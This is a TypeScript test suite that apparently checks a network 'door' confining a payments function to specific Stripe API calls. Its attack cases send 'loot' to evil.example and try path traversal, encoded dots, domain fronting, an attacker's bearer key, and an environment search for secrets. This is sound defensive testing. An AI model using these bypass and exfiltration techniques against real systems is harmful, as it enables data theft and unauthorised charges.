import type { Attack } from '../attack.ts'
import type { Instruction } from '../hostile-app/src/instruction.ts'
import { attemptInside, controlInside } from '../verdicts.ts'
import type { World } from '../world/world.ts'

const charge = (headers: Readonly<Record<string, string>> = {}): Instruction => ({
  do: 'http',
  url: 'https://api.stripe.com/v1/payment_intents',
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers },
  body: 'amount=1&currency=chf',
})

const throughTheDoor = {
  controls: 'the operation that the door has, from the same function',
  control: async (world: World) => controlInside(await world.inside('payments', charge())),
}

const refused = ['door.unlisted', 'door.not_granted']

/** A request of our own spelling inside the TLS session with the door. */
const spelt = (line: string, headers: readonly string[] = []): Instruction => ({
  do: 'raw',
  host: '192.0.2.1',
  port: 443,
  serverName: 'api.stripe.com',
  text: `${[line, 'host: api.stripe.com', 'connection: close', ...headers].join('\r\n')}\r\n\r\n`,
})

/** Ways to make a door lead elsewhere, or carry something else. */
export const doorAttacks: readonly Attack[] = [
  {
    name: 'doors.other-host',
    tries: 'payments sends to a host that no door leads to',
    stoppedBy: 'door',
    expected: ['door.unlisted', 'ENOTFOUND', 'ECONNRESET', 'EPROTO', 'ERR_SSL_TLSV1_UNRECOGNIZED_NAME'],
    run: async (world) =>
      attemptInside(
        await world.inside('payments', { do: 'http', url: 'https://evil.example/', method: 'POST', body: 'loot' }),
      ),
    controls: 'the same code outside a box reaches an HTTPS listener of ours',
    control: async (world) =>
      controlInside(
        await world.outside({ do: 'http', url: `${world.canaries.httpsUrl}/`, method: 'POST', body: 'loot' }),
      ),
  },
  {
    name: 'doors.other-host-plain',
    tries: 'the same without TLS',
    stoppedBy: 'door',
    expected: ['door.unlisted', 'ENOTFOUND'],
    run: async (world) =>
      attemptInside(
        await world.inside('payments', { do: 'http', url: 'http://evil.example/', method: 'POST', body: 'loot' }),
      ),
    controls: 'the same code outside a box reaches an HTTP listener of ours',
    control: async (world) =>
      controlInside(
        await world.outside({ do: 'http', url: `${world.canaries.httpUrl}/`, method: 'POST', body: 'loot' }),
      ),
  },
  {
    name: 'doors.other-path',
    tries: 'payments reads the balance at the host that it may charge at',
    stoppedBy: 'door',
    expected: refused,
    run: async (world) =>
      attemptInside(await world.inside('payments', { do: 'http', url: 'https://api.stripe.com/v1/balance' })),
    ...throughTheDoor,
  },
  {
    name: 'doors.other-method',
    tries: 'another method on the path that it may use',
    stoppedBy: 'door',
    expected: refused,
    run: async (world) =>
      attemptInside(
        await world.inside('payments', {
          do: 'http',
          url: 'https://api.stripe.com/v1/payment_intents',
          method: 'DELETE',
        }),
      ),
    ...throughTheDoor,
  },
  {
    name: 'doors.ungranted-operation',
    tries: 'payments refunds, which the door has and payments was not given',
    stoppedBy: 'policy',
    expected: refused,
    run: async (world) =>
      attemptInside(
        await world.inside('payments', {
          do: 'http',
          url: 'https://api.stripe.com/v1/refunds',
          method: 'POST',
          body: 'a=1',
        }),
      ),
    ...throughTheDoor,
  },
  {
    name: 'doors.other-function',
    tries: 'the storefront charges a card itself',
    stoppedBy: 'policy',
    expected: [...refused, 'ENOTFOUND', 'ECONNRESET'],
    run: async (world) => attemptInside(await world.inside('storefront', charge())),
    ...throughTheDoor,
  },
  ...[
    ['climbing', 'POST /v1/payment_intents/../balance HTTP/1.1'],
    ['encoded-dots', 'POST /v1/payment_intents/%2e%2e/balance HTTP/1.1'],
    ['double-slash', 'POST //v1/payment_intents HTTP/1.1'],
    ['letter-case', 'POST /V1/PAYMENT_INTENTS HTTP/1.1'],
    ['absolute-form', 'POST https://evil.example/v1/payment_intents HTTP/1.1'],
  ].map(([name = '', line = '']): Attack => ({
    name: `doors.path-${name}`,
    tries: `a request line that reads two ways: ${line.replace(' HTTP/1.1', '')}`,
    stoppedBy: 'door',
    expected: [...refused, 'door.path', 'door.malformed_url', 'door.host_mismatch'],
    run: async (world) => attemptInside(await world.inside('payments', spelt(line, ['content-length: 0']))),
    controls: 'the door’s own path, by the same means',
    control: async (world) =>
      controlInside(await world.inside('payments', spelt('POST /v1/payment_intents HTTP/1.1', ['content-length: 0']))),
  })),
  {
    name: 'doors.host-behind-name',
    tries: 'the door’s name in TLS, and another host in the request inside (domain fronting)',
    stoppedBy: 'door',
    expected: ['door.host_mismatch', 'door.unlisted'],
    run: async (world) => {
      const text =
        'POST /v1/payment_intents HTTP/1.1\r\nhost: evil.example\r\ncontent-length: 0\r\nconnection: close\r\n\r\n'
      const fronted: Instruction = { do: 'raw', host: '192.0.2.1', port: 443, serverName: 'api.stripe.com', text }
      return attemptInside(await world.inside('payments', fronted))
    },
    ...throughTheDoor,
  },
  {
    name: 'doors.own-key',
    tries: 'payments sends a key of its own along, to charge on somebody else’s account',
    stoppedBy: 'door',
    expected: ['door.replaced'],
    run: async (world) => {
      const before = world.upstream.seen.length
      const outcome = await world.inside('payments', charge({ authorization: 'Bearer sk_attacker' }))
      const arrived = world.upstream.seen.slice(before).map(({ headers }) => String(headers['authorization']))
      const ours = arrived.every((value) => value === `Bearer ${world.stripeKey}`)
      if (outcome.got && arrived.length > 0 && ours) {
        return { stopped: true, code: 'door.replaced', evidence: 'the payment API saw our key, and not the attacker’s' }
      }
      return { stopped: !outcome.got, code: outcome.code, evidence: `arrived: ${arrived.length} calls` }
    },
    controls: 'the same request without a door arrives with the attacker’s key',
    control: async (world) => {
      const before = world.upstream.seen.length
      const headers = { authorization: 'Bearer sk_attacker' }
      await world.outside({
        do: 'http',
        url: `${world.upstream.url}/v1/payment_intents`,
        method: 'POST',
        headers,
        body: 'a=1',
      })
      const arrived = world.upstream.seen.slice(before).map((call) => call.headers['authorization'])
      return { succeeded: arrived.includes('Bearer sk_attacker'), evidence: `arrived with ${String(arrived[0])}` }
    },
  },
  {
    name: 'doors.find-key',
    tries: 'payments looks for the key in everything that it can see of itself',
    stoppedBy: 'box',
    expected: ['absent'],
    run: async (world) => attemptInside(await world.inside('payments', { do: 'environment', word: 'sk_test_fake' })),
    controls: 'the same search where a key does stand in the environment',
    control: async (world) => controlInside(await world.outside({ do: 'environment', word: 'sk_test_fake' })),
  },
]
